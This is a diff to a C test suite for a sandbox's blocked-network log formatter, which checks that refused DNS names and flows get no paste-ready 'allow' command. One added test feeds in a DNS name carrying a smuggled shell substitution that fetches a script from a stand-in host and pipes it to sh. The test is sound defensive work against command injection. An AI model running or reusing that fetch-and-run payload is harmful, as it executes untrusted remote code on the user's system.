@@ -25,7 +25,7 @@ static char *line_of(const char *event_json, const char *id)
 
 static char *slurp(const char *path, size_t *len)
 {
-	static char b[BLOCKED_LOG_MAX + 4096];
+	static char b[BLOCKED_LOG_CAP + 4096];
 	int fd = open(path, O_RDONLY);
 	ssize_t n = fd < 0 ? -1 : read(fd, b, sizeof b - 1);
 
@@ -57,6 +57,14 @@ static void formats(void)
 	l = line_of("{\"type\":\"dns-rebind\",\"name\":\"n.test\",\"addr\":\"10.0.0.1\",\"reason\":\"private\"}", "i");
 	ok(l && strstr(l, "\"reason\":\"private\"") && strstr(l, "allow i 10.0.0.1\""),
 	   "dns-rebind: the reason, allow names the address");
+	free(l);
+	/* the agent chooses query names: one that is no valid entry is logged,
+	 * but never offered as a command to paste */
+	l = line_of("{\"type\":\"dns-refused\",\"name\":\"$({curl,-s,x.io/a}|sh)\",\"qtype\":\"A\"}", "ab12");
+	ok(l && strstr(l, "curl") && !strstr(l, "\"allow\""), "a refused name that is no host name: no allow command");
+	free(l);
+	l = line_of("{\"type\":\"flow-refused\",\"addr\":\"192.0.2.8\",\"port\":443,\"name\":\"@npm\"}", "ab12");
+	ok(l && !strstr(l, "\"allow\""), "a refused SNI that reads like a preset: no allow command");
 	free(l);
 	l = line_of("{\"type\":\"dns-upstream-failed\",\"name\":\"n.test\",\"reason\":\"no answer\"}", "i");
 	ok(l && !strstr(l, "allow"), "dns-upstream-failed: no allow command (the name is allowed)");
@@ -91,7 +99,7 @@ static void bounded(const char *dir)
 	b = slurp(path, &len);
 	for (size_t i = 0; i < len; i++)
 		lines += b[i] == '\n';
-	ok(len <= BLOCKED_LOG_MAX, "100000 events: the file stays within 4 MiB (%zu bytes, %zu lines)",
+	ok(len <= BLOCKED_LOG_CAP, "100000 events: the file stays within 4 MiB (%zu bytes, %zu lines)",
 	   len, lines);
 	b[len - 1] = '\0';
 	last = strrchr(b, '\n');
@@ -139,7 +147,7 @@ int main(void)
 {
 	char dir[] = "/tmp/cs-blog.XXXXXX";
 
-	plan(18);
+	plan(20);
 	if (!mkdtemp(dir))
 		return 1;
 	formats();
